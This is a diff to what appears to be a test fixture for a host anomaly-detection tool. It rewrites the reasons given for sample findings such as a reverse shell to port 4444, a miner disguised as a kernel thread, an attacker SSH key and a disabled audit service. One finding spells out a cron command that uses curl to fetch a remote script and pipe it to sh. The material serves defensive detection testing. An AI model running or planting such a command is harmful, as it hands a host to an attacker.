@@ -65,6 +65,13 @@ SLOW = _host(21)
 QUIET = tuple(host for host in HOSTS if host not in (MINER, SHELL, OFFLINE, SLOW))
 
 
+def _counts(change: Change, seen_on: int, baseline_seen: int | None) -> str:
+    """Return the counts as the analysis ends its reasons."""
+    if change is Change.REMOVED:
+        return "none of 22 peers lacks it; the baseline has it"
+    return f"on {seen_on or 'none'} of 22 peers" + ("" if baseline_seen is None else "; not in the baseline")
+
+
 def _finding(
     host: Host,
     query: str,
@@ -90,7 +97,7 @@ def _finding(
         baseline_seen=baseline_seen,
         baseline_of=None if baseline_seen is None else 3,
         attack=attack,
-        why=why,
+        why=f"{why}; {_counts(change, seen_on, baseline_seen)}",
         quadrant=Quadrant.NEW_RARE,
         outlying=score >= 9,
         parts=tuple(ScorePart(label, bits) for label, bits in parts),
@@ -111,7 +118,7 @@ FINDINGS = (
             "remote_address": "198.51.100.23",
             "remote_port": "4444",
         },
-        "A shell (bash, www-data) talks to 198.51.100.23 port 4444: a reverse shell looks like this",
+        "has a shell connected to 198.51.100.23:4444 (bash -i as www-data): a shell with a network connection",
         15.6,
         "T1059.004",
         "T1071",
@@ -133,7 +140,7 @@ FINDINGS = (
             "parent_name": "systemd",
             "instances": "1",
         },
-        "A process dressed as a kernel thread (kworker/u4:1) runs from /dev/shm/.k/kworker",
+        "runs /dev/shm/.k/kworker as root: named like a kernel thread and from a folder that everybody may write to",
         14.2,
         "T1036.005",
         "T1496",
@@ -156,7 +163,7 @@ FINDINGS = (
             "day_of_week": "*",
             "event": "",
         },
-        "Every 10 minutes root's cron downloads http://198.51.100.99/i.sh and runs it",
+        "has the cron job curl -fsSL http://198.51.100.99/i.sh | sh >/dev/null 2>&1: downloads and runs",
         13.1,
         "T1053.003",
         "T1105",
@@ -173,7 +180,7 @@ FINDINGS = (
             "comment": "kali@kali",
             "key_sha256": "5d41c0d3b8a1f7c9e2b64a9917c2e5f0a3b1d8e7f6c5a4b3928170f6e5d4c3b2",
         },
-        "root accepts one more SSH key (ssh-ed25519, comment kali@kali)",
+        "accepts one more SSH key for root (kali@kali): a way in for root",
         12.4,
         "T1098.004",
         parts=(("rare among 22 peers", 5.5), ("not in the baseline", 2.4), ("opens a way in for root", 4.5)),
@@ -182,7 +189,7 @@ FINDINGS = (
         MINER,
         "kernel_controls",
         {"name": "kernel.tainted", "current_value": "12289"},
-        "kernel.tainted is 12289 here; the others have 0: an unsigned module was loaded",
+        "has another kernel.tainted (current_value 12289 instead of 0): an unsigned module was loaded",
         10.4,
         "T1562.001",
         "T1014",
@@ -202,7 +209,7 @@ FINDINGS = (
             "parent_name": "bash",
             "instances": "1",
         },
-        f"A process named {HOSTILE} runs from a file that was deleted",
+        f"runs {HOSTILE} as www-data: its file was deleted",
         9.8,
         "T1070.004",
         parts=(("rare among 22 peers", 5.5), ("runs from a deleted file", 4.3)),
@@ -217,7 +224,7 @@ FINDINGS = (
             "fragment_path": "/usr/lib/systemd/system/auditd.service",
             "user": "",
         },
-        "auditd.service is missing here; all peers and the baseline have it",
+        "lacks systemd unit auditd.service: an audit service",
         9.1,
         "T1562.001",
         change=Change.REMOVED,
@@ -228,7 +235,7 @@ FINDINGS = (
         QUIET[3],
         "logins",
         {"username": "ops", "host": "10.0.9.14", "times": "2", "last_time": "1795410000"},
-        "ops logged in from 10.0.9.14, which nobody did on the other hosts",
+        "has a login of ops from 10.0.9.14",
         4.2,
         "T1078",
         parts=(("rare among 22 peers", 4.2),),
@@ -238,7 +245,7 @@ FINDINGS = (
         QUIET[9],
         "deb_packages",
         {"name": "tcpdump", "version": "4.99.1-3ubuntu0.2", "arch": "amd64"},
-        "tcpdump 4.99.1-3ubuntu0.2 is installed here only",
+        "has the package tcpdump 4.99.1-3ubuntu0.2",
         3.6,
         parts=(("rare among 22 peers", 5.5), ("a package from the usual sources", -1.9)),
     ),
